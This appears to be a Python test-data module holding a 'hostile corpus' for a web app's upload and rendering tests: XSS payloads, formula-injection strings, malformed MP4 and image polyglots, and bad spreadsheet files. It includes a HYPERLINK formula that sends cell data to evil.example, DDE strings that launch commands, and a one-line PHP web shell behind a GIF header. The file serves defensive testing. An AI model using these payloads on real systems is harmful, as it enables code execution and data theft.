"""The standing hostile corpus: what attackers send, kept as test data and run on every CI run.

Each list feeds the tests beside it (tests/hostile/test_*.py), so a change that reopens a hole fails
there: markup that must never run, uploads that are not what they claim, text that a spreadsheet
program would run as a formula, and spreadsheets that must be refused with a Vietnamese message.
"""

import io
import struct
import zipfile

# --- Markup that must never run --------------------------------------------------------------------------
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="&#106;avascript:alert(1)">bấm</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><input name="p"></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '"><script>alert(1)</script>',
    "';alert(1);//",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
]
# What none of the above may leave in a page, in any case.
XSS_MARKERS = (
    "<script",
    "onerror=",
    "onload=",
    "ontoggle=",
    "javascript:",
    "<iframe srcdoc",
    "<object",
    "<embed",
    "<base ",
)

# --- Text a spreadsheet program would run --------------------------------------------------------------------
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


# --- Uploads that are not what they claim --------------------------------------------------------------------
def box(kind, payload=b""):
    """One ISO media box: 32-bit size, four-letter type, payload."""
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def mp4(*, mdat_bytes=64):
    """A structurally valid MP4: ftyp, moov (with an mvhd), mdat."""
    ftyp = box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2avc1mp41")
    moov = box(b"moov", box(b"mvhd", b"\x00" * 100))
    return ftyp + moov + box(b"mdat", b"\x00" * mdat_bytes)


HOSTILE_VIDEOS = {
    "html behind an ftyp box": box(b"ftyp", b"isom\x00\x00\x02\x00isom") + b"<html><script>alert(1)</script></html>",
    "html named mp4": b"<!doctype html><html><script>alert(1)</script></html>",
    "ftyp only": box(b"ftyp", b"isom\x00\x00\x02\x00isom"),
    "ftyp then zeros": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42" + b"\x00" * 32,
    "no moov": box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"mdat", b"\x00" * 16),
    "no mdat": box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"moov", b"\x00" * 16),
    "moov first": box(b"moov", b"\x00" * 16) + box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"mdat", b"\x00"),
    "mdat runs past the end": box(b"ftyp", b"isom\x00\x00\x02\x00isom")
    + box(b"moov", b"\x00" * 16)
    + struct.pack(">I4s", 10_000, b"mdat")
    + b"\x00" * 10,
    "64-bit size past the end": box(b"ftyp", b"isom\x00\x00\x02\x00isom")
    + box(b"moov", b"\x00" * 16)
    + struct.pack(">I4sQ", 1, b"mdat", 2**40),
    "box smaller than its header": box(b"ftyp", b"isom\x00\x00\x02\x00isom") + struct.pack(">I4s", 4, b"moov"),
    "binary box type": box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"\x00<sc", b"\x00" * 8),
    "garbage after the boxes": mp4() + b"<script>",
    "empty": b"",
}

GIF_1PX = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
HOSTILE_IMAGES = {
    "html named jpg": b"<html><script>alert(1)</script></html>",
    "svg with script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "gif with a script glued after it": GIF_1PX + b"<script>alert(1)</script>",
    "php behind a gif header": b"GIF89a<?php system($_GET['c']); ?>",
    "truncated png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
    "empty": b"",
}


# --- Spreadsheets that must be refused -----------------------------------------------------------------------
def _zip(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


BAD_SPREADSHEETS = {
    "html named xlsx": ("tep.xlsx", b"<html><script>alert(1)</script></html>"),
    "zip that is not a workbook": ("tep.xlsx", _zip({"hello.txt": b"xin chao"})),
    "truncated zip": ("tep.xlsx", _zip({"xl/workbook.xml": b"<x/>" * 100})[:60]),
    "binary csv": ("tep.csv", b"\x00\xff\xfe\x00" * 64),
    "csv not utf-8": ("tep.csv", "ma_sang_kien;ten_sang_kien\nSK1;Sáng kiến\n".encode("utf-16")),
    "empty csv": ("tep.csv", b""),
    "exe named csv": ("tep.csv", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64),
}
